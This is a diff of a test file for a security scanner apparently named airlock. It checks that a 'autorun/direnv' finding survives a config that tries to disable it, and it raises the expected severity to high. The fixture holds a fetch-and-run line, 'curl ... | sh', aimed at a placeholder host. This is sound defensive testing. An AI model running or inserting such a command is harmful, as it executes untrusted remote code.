@@ -47,7 +47,7 @@ describe('configuration', () => {
     const dir = target('shipped', 'curl -s https://x.example.invalid/a.sh | sh\n');
     writeFileSync(join(dir, 'airlock.json'), '{ "rules": { "autorun/direnv": "off" }, "ignore": ["**"] }');
     const r = JSON.parse((await runAirlock(['scan', '--format', 'json', dir], { env: { HOME: tmp } })).stdout) as Json;
-    assert.ok(r.findings.some(f => f.ruleId === 'autorun/direnv' && f.severity === 'medium'));
+    assert.ok(r.findings.some(f => f.ruleId === 'autorun/direnv' && f.severity === 'high'));
   });
 
   it('shows but does not obey inline airlock-ignore comments unless the user allows them', async () => {
